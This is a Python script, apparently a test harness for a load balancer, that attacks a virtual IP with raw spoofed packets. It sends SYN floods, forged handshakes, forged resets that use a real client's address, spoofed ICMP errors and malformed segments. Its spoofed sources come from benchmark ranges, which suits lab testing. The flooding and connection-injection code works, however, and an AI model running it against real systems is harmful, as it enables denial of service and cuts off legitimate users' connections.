#!/usr/bin/python3
"""Attacks services as somebody who knows addresses and ports, but neither numbers nor tags.

stranger.py RATE OWN VIP CLIENT PORT... sends so many packets a second from its own address OWN, from the client's ports
and from made-up sources, until stdin is closed; then it prints how often each attack came. TCP port 80, UDP port 53 and
TCP port 81 of the VIP are attacked. All checksums are right.
"""

import collections
import ipaddress
import json
import random
import select
import socket
import struct
import sys
import time

FIN, SYN, RST, ACK = 1, 2, 4, 16
TCP, UDP = socket.IPPROTO_TCP, socket.IPPROTO_UDP
BATCH = 0.02  # seconds of packets that are sent at once
LATER = 400   # packets until a forged handshake goes on, so that the member has answered


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


class Stranger:
    def __init__(self, own, vip, client, ports):
        self.own, self.vip, self.client = (ipaddress.ip_address(a).packed for a in (own, vip, client))
        self.ports = ports
        self.v4 = len(self.vip) == 4
        self.icmp = socket.IPPROTO_ICMP if self.v4 else socket.IPPROTO_ICMPV6
        self.socket = socket.socket(socket.AF_INET if self.v4 else socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.to = (vip, 0)
        self.later = collections.deque()

    # ---- packets ----

    def somebody(self):
        if self.v4:
            return bytes([198, random.choice((18, 19)), random.randrange(256), random.randrange(1, 255)])
        return ipaddress.ip_address("2001:db8:5::").packed[:8] + random.randbytes(8)

    def ip(self, source, destination, protocol, payload, ttl=64, fragment=0):
        if self.v4:
            header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.getrandbits(16), fragment, ttl, protocol, 0,
                                 source, destination)
            return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload
        return struct.pack("!IHBB16s16s", 6 << 28, len(payload), protocol, ttl, source, destination) + payload

    @staticmethod
    def with_checksum(source, destination, protocol, payload, offset):
        pseudo = source + destination + struct.pack("!II", len(payload), protocol)
        total = checksum(pseudo + payload) or (0xffff if protocol == UDP else 0)  # 0 says that there is none
        return payload[:offset] + struct.pack("!H", total) + payload[offset + 2:]

    def segment(self, source, source_port, port, flags, destination=None, **options):
        destination = destination or self.vip
        header = struct.pack("!HHIIBBHHH", source_port, port, random.getrandbits(32), random.getrandbits(32) if flags & ACK else 0,
                             0x50, flags, 512, 0, 0)
        return self.ip(source, destination, TCP, self.with_checksum(source, destination, TCP, header, 16), **options)

    @staticmethod
    def some_port():
        return random.randrange(1024, 65536)

    # ---- attacks: each returns its packets ----

    def syns(self):
        return [self.segment(self.somebody(), self.some_port(), 80, SYN)]

    def forged_handshake(self):
        source, port = self.somebody(), self.some_port()
        self.later.append(self.segment(source, port, 80, ACK))
        return [self.segment(source, port, 80, SYN)] + ([self.later.popleft()] if len(self.later) > LATER else [])

    def scan(self):
        return [self.segment(self.own, self.some_port(), 80, SYN)]

    def acks_to_adopt(self):
        return [self.segment(self.somebody(), self.some_port(), 81, ACK)]

    def queries(self):
        source = self.somebody()
        datagram = struct.pack("!HHHH", self.some_port(), 53, 12, 0) + b"what"
        return [self.ip(source, self.vip, UDP, self.with_checksum(source, self.vip, UDP, datagram, 6))]

    def forged_ends(self):
        port = random.choice(self.ports)
        return [self.segment(self.client, port, 80, flags) for flags in (RST, RST | ACK, FIN | ACK, SYN)]

    def icmp_errors(self):
        """Errors about what the VIP sends to the client: that nobody is there, or that it is too long."""
        quoted = self.segment(self.vip, 80, random.choice(self.ports), ACK, destination=self.client)
        kind, rest = random.choice((((3, 1), 0), ((3, 3), 0), ((3, 4), 576)) if self.v4 else (((1, 0), 0), ((1, 4), 0), ((2, 0), 1280)))
        message = struct.pack("!BBHI", *kind, 0, rest) + quoted
        source = self.somebody()
        if self.v4:
            message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
        else:
            message = self.with_checksum(source, self.vip, self.icmp, message, 2)
        return [self.ip(source, self.vip, self.icmp, message)]

    def odd_packets(self):
        return [self.segment(self.vip, self.some_port(), 80, SYN),
                self.segment(self.somebody(), self.some_port(), 80, SYN, ttl=2),
                self.segment(self.somebody(), self.some_port(), 80, SYN | FIN | RST),
                self.segment(self.somebody(), self.some_port(), 9999, SYN)]

    def attack(self, rate):
        attacks = [self.syns, self.forged_handshake, self.scan, self.acks_to_adopt, self.queries, self.forged_ends, self.icmp_errors,
                   self.odd_packets]
        sent = collections.Counter()
        due = time.monotonic()
        while not select.select([sys.stdin], [], [], max(0.0, due - time.monotonic()))[0]:
            due = max(due + BATCH, time.monotonic() - 1)
            packets = 0
            while packets < rate * BATCH:
                attack = random.choice(attacks)
                for packet in attack():
                    self.send(packet)
                    packets += 1
                sent[attack.__name__] += 1
        return sent

    def send(self, packet):
        try:
            self.socket.sendto(packet, self.to)
        except OSError:  # a full queue
            pass


def main():
    rate, own, vip, client, *ports = sys.argv[1:]
    print(json.dumps(Stranger(own, vip, client, [int(port) for port in ports]).attack(int(rate))))


if __name__ == "__main__":
    main()
